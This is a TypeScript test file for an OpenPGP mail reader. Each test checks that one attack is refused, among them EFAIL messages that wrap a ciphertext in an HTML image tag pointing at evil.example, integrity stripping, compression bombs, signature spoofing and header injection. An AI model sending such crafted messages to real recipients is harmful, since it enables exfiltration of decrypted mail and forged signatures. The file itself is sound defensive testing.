/** Attacks of mail.md §2, each as a message that must not succeed. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type OpenedMail } from '../../../src/domain/mail.ts'
import { readArmor } from '../../../src/openpgp/armor.ts'
import { TAG, walkPackets } from '../../../src/openpgp/packets.ts'
import { type OpenPgpProgram } from '../../support/people.ts'
import { makeGnupg } from '../../support/people-gpg.ts'
import { run } from '../../support/programs.ts'
import { describeWith } from '../../support/requires.ts'
import { tempFolder } from '../../support/temp.ts'
import {
  certificateOf,
  DESK_ADDRESS,
  type Desk,
  encryptedEntity,
  encryptedMail,
  HEAD,
  headWith,
  lines,
  makeDesk,
  mixed,
  open,
  signedEntity,
  textPart
} from './material.ts'

const SECRET = 'The parser reads past its buffer.'

/** A signature that policy could act on. */
function isTrusted(opened: OpenedMail): boolean {
  return opened.signatures.some((each) => each.state === 'valid' && each.coversWhole)
}

function armor(data: Uint8Array): string {
  return `-----BEGIN PGP MESSAGE-----\n\n${Buffer.from(data).toString('base64')}\n-----END PGP MESSAGE-----`
}

function dearmor(armored: string): Uint8Array {
  const block = readArmor(armored)
  if (block === null) throw new Error('no armor')
  return block.data
}

describeWith(['gpg'], 'a hostile encrypted message', () => {
  let desk: Desk
  let gpg: OpenPgpProgram
  let certificates: Uint8Array[]
  let sealed: string

  beforeAll(async () => {
    desk = await makeDesk()
    gpg = await makeGnupg({ name: 'Alice', address: 'alice@reporter.example' })
    await gpg.importKey(desk.publicArmored)
    certificates = [await certificateOf(await gpg.exportPublicKey())]
    sealed = await gpg.encrypt(Buffer.from(textPart(SECRET)), DESK_ADDRESS, true)
  })
  afterAll(() => gpg.close())
  const openIt = (raw: string): Promise<OpenedMail> => open(raw, [desk.secret], certificates)

  it('cannot get a wrapped ciphertext decrypted (EFAIL, direct exfiltration)', async () => {
    const inner = encryptedEntity(sealed)
    const html = (text: string): string => `Content-Type: text/html\r\n\r\n${text}`
    const shapes = [
      mixed([html('<img src="http://evil.example/'), inner, html('">')]),
      mixed([html('<img src="http://evil.example/'), inner]),
      mixed([html('<p>'), `Content-Type: application/octet-stream; name=a.asc\r\n\r\n${sealed}`]),
      mixed([textPart('a'), textPart('b'), inner])
    ]
    for (const shape of shapes) {
      const opened = await openIt(lines(...HEAD) + shape)
      expect(opened).toMatchObject({ decrypted: false, structure: 'clear' })
      expect(JSON.stringify(opened)).not.toContain('reads past')
      expect(opened.warnings).toContain('errant-crypto')
    }
  })

  it('yields no text when any byte of the ciphertext was changed', async () => {
    const data = dearmor(sealed)
    for (const back of [5, 30, 60, 120]) {
      const changed = Uint8Array.from(data)
      changed[changed.length - back] = (changed[changed.length - back] ?? 0) ^ 1
      const opened = await openIt(encryptedMail(armor(changed)))
      expect(opened).toMatchObject({
        failure: 'damaged',
        decrypted: false,
        text: '',
        signatures: []
      })
    }
    const cut = await openIt(encryptedMail(armor(data.subarray(0, data.length - 40))))
    expect(cut).toMatchObject({ failure: 'damaged', text: '', sealedTo: 'desk' })
  })

  it('is refused when its integrity protection was stripped (tag 18 made tag 9)', async () => {
    const data = dearmor(sealed)
    const { spans } = walkPackets(data, 10)
    const pieces = spans.map((span) => {
      if (span.tag !== TAG.encryptedIntegrity) return data.subarray(span.start, span.end)
      const body = data.subarray(span.body + 1, span.end)
      const head = Buffer.alloc(6, 0xff)
      head[0] = 0xc9
      head.writeUInt32BE(body.length, 2)
      return Buffer.concat([head, body])
    })

    const opened = await openIt(encryptedMail(armor(Buffer.concat(pieces))))

    expect(opened).toMatchObject({ failure: 'no-integrity', text: '', decrypted: false })
  })

  it('is refused when it floods the desk with session keys', async () => {
    const data = dearmor(sealed)
    const span = walkPackets(data, 10).spans.find((each) => each.tag === TAG.publicKeySession)
    if (span === undefined) throw new Error('no session key packet')
    const packet = data.subarray(span.start, span.end)
    const flood = (count: number): string =>
      armor(Buffer.concat([...Array.from({ length: count }, () => packet), data]))

    for (const count of [64, 150, 5000]) {
      const opened = await openIt(encryptedMail(flood(count)))
      expect(opened).toMatchObject({ failure: 'limit', text: '', sealedTo: 'desk' })
    }
    expect((await openIt(encryptedMail(flood(20)))).text).toBe(`${SECRET}\n`)
  })

  it('is refused when it expands beyond the limit (compression bomb)', async () => {
    const folder = tempFolder('rb-')
    const base = [
      '--homedir',
      folder.path,
      '--batch',
      '--no-tty',
      '--quiet',
      '--trust-model',
      'always'
    ]
    await run('gpg', [...base, '--import'], { input: desk.publicArmored })
    const seal = async (megabytes: number, algorithm: string): Promise<string> => {
      const options = ['--compress-algo', algorithm, '-z', '9', '-a', '-e', '-r', DESK_ADDRESS]
      const input = Buffer.alloc(megabytes * 2 ** 20, 'a')
      return (await run('gpg', [...base, ...options], { input })).stdout.toString()
    }

    for (const algorithm of ['zlib', 'zip', 'bzip2']) {
      const bomb = await seal(80, algorithm)
      expect(bomb.length).toBeLessThan(2_000_000)
      const opened = await openIt(encryptedMail(bomb))
      expect(opened).toMatchObject({ failure: 'limit', text: '', attachments: [] })
    }
    expect((await openIt(encryptedMail(await seal(2, 'zlib')))).text).toHaveLength(256 * 1024)
    folder.remove()
  }, 120_000)

  it('reveals only the key ids when it is for somebody else', async () => {
    const stranger = await makeDesk()

    const opened = await open(encryptedMail(sealed), [stranger.secret], certificates)

    expect(opened).toMatchObject({ failure: 'not-for-us', sealedTo: 'other', text: '' })
  })

  it('gives a replayed signature the same identity, whatever was changed around it', async () => {
    const content = textPart('/close')
    const signature = await gpg.signDetached(Buffer.from(content))
    const data = dearmor(signature)
    const repacked = `-----BEGIN PGP SIGNATURE-----\nComment: new\n\n${Buffer.from(data).toString('base64')}\n-----END PGP SIGNATURE-----`

    const first = await openIt(lines(...HEAD) + signedEntity(content, signature))
    const again = await openIt(lines(...HEAD) + signedEntity(content, repacked, 'other'))
    const inside = await openIt(
      encryptedMail(
        await gpg.encrypt(Buffer.from(signedEntity(content, signature)), DESK_ADDRESS, false)
      )
    )

    for (const opened of [first, again, inside]) {
      expect(opened.signatures[0]).toMatchObject({
        state: 'valid',
        sha256: first.signatures[0]?.sha256
      })
    }
  })
})

describeWith(['gpg'], 'a hostile signature', () => {
  let gpg: OpenPgpProgram
  let certificates: Uint8Array[]
  let signed: string

  beforeAll(async () => {
    gpg = await makeGnupg({ name: 'Grace', address: 'grace@acme.example' })
    certificates = [await certificateOf(await gpg.exportPublicKey())]
    const content = textPart('I agree.')
    signed = signedEntity(content, await gpg.signDetached(Buffer.from(content))).trimEnd()
  })
  afterAll(() => gpg.close())
  const openIt = (raw: string): Promise<OpenedMail> => open(raw, [], certificates)

  it('never lends its trust to text beside it (Johnny M1 to M4)', async () => {
    const forged = textPart('/release ACME-2026-0007')
    const shapes = [
      mixed([forged, signed]),
      mixed([signed, forged]),
      mixed([forged, `Content-Disposition: attachment\r\n${signed}`]),
      mixed([mixed([signed], 'x').trimEnd(), forged]),
      `Content-Type: multipart/related; boundary=m\r\n\r\n--m\r\n${forged}\r\n--m\r\n${signed}\r\n--m--\r\n`,
      `Content-Type: multipart/alternative; boundary=m\r\n\r\n--m\r\n${forged}\r\n--m\r\n${signed}\r\n--m--\r\n`,
      mixed([`Content-Type: message/rfc822\r\n\r\n${signed}`, forged])
    ]
    for (const shape of shapes) {
      const opened = await openIt(lines(...HEAD) + shape)
      expect(isTrusted(opened)).toBe(false)
      expect(opened.structure).toBe('clear')
    }
    expect(isTrusted(await openIt(`${lines(...HEAD)}${signed}\r\n`))).toBe(true)
  })

  it('does not count a third part that was slipped into the signed container', async () => {
    const slipped = signed.replace(/--s--$/, `--s\r\n${textPart('/release')}\r\n--s--`)

    const opened = await openIt(`${lines(...HEAD)}${slipped}\r\n`)

    expect(opened.signatures).toEqual([])
  })

  it('shows the footer of a mailing list separately and says what is not covered', async () => {
    const opened = await openIt(lines(...HEAD) + mixed([signed, textPart('list footer')]))

    expect(opened).toMatchObject({
      structure: 'clear',
      text: 'I agree.\n',
      outsideText: 'list footer',
      signatures: [{ state: 'valid', coversWhole: false }]
    })
    expect(opened.warnings).toEqual(
      expect.arrayContaining(['outside-text', 'signature-does-not-cover-all'])
    )
  })

  it('reports every repeated header field and trusts no From with several mailboxes', async () => {
    const twice = await openIt(`${lines(...HEAD, 'From: grace@acme.example')}${signed}\r\n`)
    expect(twice.outer.from).toBeNull()
    expect(twice.warnings).toContain('repeated-header')

    const two = headWith('From', 'a@x.example, grace@acme.example')
    const list = await openIt(`${lines(...two)}${signed}\r\n`)
    expect(list.outer.from).toBeNull()
    expect(list.warnings).toContain('repeated-header')

    for (const field of ['Subject: x', 'Message-ID: <2@x.example>', 'Content-Type: text/plain']) {
      const again = await openIt(`${lines(...HEAD, field)}${signed}\r\n`)
      expect(again.warnings).toContain('repeated-header')
    }
  })

  it('is refused in a flood', async () => {
    const content = textPart('hi')
    const one = dearmor(await gpg.signDetached(Buffer.from(content)))
    const many = Buffer.concat(Array.from({ length: 9 }, () => one)).toString('base64')
    const block = `-----BEGIN PGP SIGNATURE-----\n\n${many}\n-----END PGP SIGNATURE-----`

    const opened = await openIt(lines(...HEAD) + signedEntity(content, block))

    expect(opened).toMatchObject({
      failure: 'limit',
      signatures: [],
      encrypted: false,
      text: 'hi\n'
    })
  })
})

describeWith(['gpg'], 'a signature by a key that is no longer valid', () => {
  const folder = tempFolder('rx-')
  // The clock of another process may lag by a second behind the one that made the key.
  const base = [
    ...['--homedir', folder.path, '--batch', '--no-tty', '--quiet', '--passphrase', ''],
    ...['--ignore-time-conflict', '--ignore-valid-from']
  ]
  const gpg = async (args: readonly string[], input?: string): Promise<Buffer> =>
    (
      await run(
        'gpg',
        [...base, '--pinentry-mode', 'loopback', ...args],
        input === undefined ? {} : { input }
      )
    ).stdout
  const past = ['--faked-system-time', '20260101T120000']
  const content = textPart('I agree.')

  beforeAll(async () => {
    await gpg([...past, '--quick-generate-key', 'Old <old@acme.example>', 'ed25519', 'sign', '30d'])
    await gpg([
      ...past,
      '--quick-generate-key',
      'Gone <gone@acme.example>',
      'ed25519',
      'sign',
      'never'
    ])
  })
  afterAll(async () => {
    await run('gpgconf', ['--homedir', folder.path, '--kill', 'all'])
    folder.remove()
  })
  const signAs = async (who: string): Promise<string> => {
    const armored = await gpg([...past, '-a', '--detach-sign', '-u', who], content)
    return lines(...HEAD) + signedEntity(content, armored.toString())
  }

  it('is reported as expired although the key was valid when it was made', async () => {
    const mail = await signAs('old@acme.example')
    const certificate = await certificateOf(await gpg(['--export', 'old@acme.example']))

    const opened = await open(mail, [], [certificate])

    expect(opened.signatures).toMatchObject([{ state: 'expired-key', coversWhole: true }])
    expect(opened.signatures[0]?.createdAt).toMatch(/^2026-01-01T12:00:0/)
  })

  it('is reported as revoked once the key is revoked, even as retired', async () => {
    const mail = await signAs('gone@acme.example')
    const listing = (await gpg(['--with-colons', '--list-keys', 'gone@acme.example'])).toString()
    const fingerprint = /^fpr:+([0-9A-F]{40}):/m.exec(listing)?.[1] ?? ''
    const before = await open(mail, [], [await certificateOf(await gpg(['--export', fingerprint]))])
    expect(before.signatures).toMatchObject([{ state: 'valid' }])

    await run(
      'gpg',
      [
        ...base,
        '--pinentry-mode',
        'loopback',
        '--no-batch',
        '--command-fd',
        '0',
        '--yes',
        '--edit-key',
        fingerprint,
        'revkey',
        'save'
      ],
      {
        input: 'y\n3\n\ny\n'
      }
    )
    const certificate = await certificateOf(await gpg(['--export', fingerprint]))

    const opened = await open(mail, [], [certificate])

    expect(opened.signatures).toMatchObject([{ state: 'revoked-key' }])
  })
})

describe('a hostile structure', () => {
  it('is read up to the limit and never dropped: 5,000 nested parts', async () => {
    let mail = ''
    for (let depth = 0; depth < 5000; depth += 1) {
      mail += `Content-Type: multipart/mixed; boundary=b${depth}\r\n\r\n--b${depth}\r\n`
    }

    const opened = await open(lines(...HEAD) + mail, [])

    expect(opened.failure).toBeNull()
    expect(opened.warnings).toEqual(expect.arrayContaining(['too-many-parts', 'broken-mime']))
    expect(opened.attachments).toHaveLength(1)
  })

  it('is read up to the limit, with the rest as one attachment: 5,000 parts side by side', async () => {
    const parts = Array.from({ length: 5000 }, (_, index) => textPart(`part ${index}`))

    const opened = await open(lines(...HEAD) + mixed(parts), [])

    expect(opened.text).toContain('part 100\n')
    const rest = Buffer.from(opened.attachments.at(-1)?.content ?? []).toString()
    expect(rest).toContain('part 4999')
    expect(opened.warnings).toContain('too-many-parts')
  })

  it('cannot exhaust the header parser: 20,000 fields, 100,000 references, a megabyte in one line', async () => {
    const fields = Array.from({ length: 20_000 }, (_, index) => `X-${index}: y`)
    const references = Array.from({ length: 100_000 }, (_, index) => `<${index}@x.example>`)
    for (const bomb of [
      fields,
      [`References: ${references.join('\r\n ')}`],
      [`Subject: ${'=?utf-8?Q?'.repeat(100_000)}`],
      [`To: ${'a@x.example, '.repeat(140_000)}`]
    ]) {
      const opened = await open(lines(...HEAD, ...bomb, '', 'hello'), [])
      expect(opened.outer.from?.address).toBe('alice@reporter.example')
      expect(opened.outer.references.length).toBeLessThanOrEqual(100)
      expect(opened.outer.to.length).toBeLessThanOrEqual(201)
      expect(opened.warnings).toContain('broken-mime')
    }
  })

  it('cannot write a header through an encoded word', async () => {
    const head = headWith('Subject', '=?utf-8?Q?foo=0D=0ABcc:_evil@x.example?=')
    const opened = await open(lines(...head, '', 'x'), [])
    expect(opened.outer.subject).toBe('foo Bcc: evil@x.example')
  })

  it('cannot stop the desk with HTML', async () => {
    const html = `Content-Type: text/html\r\n\r\n${'<div>'.repeat(200_000)}`
    const opened = await open(`${lines(...HEAD)}${html}`, [])
    expect(opened.text).toContain('[HTML part not converted]')
    expect(opened.warnings).toContain('html-not-converted')
  })
})
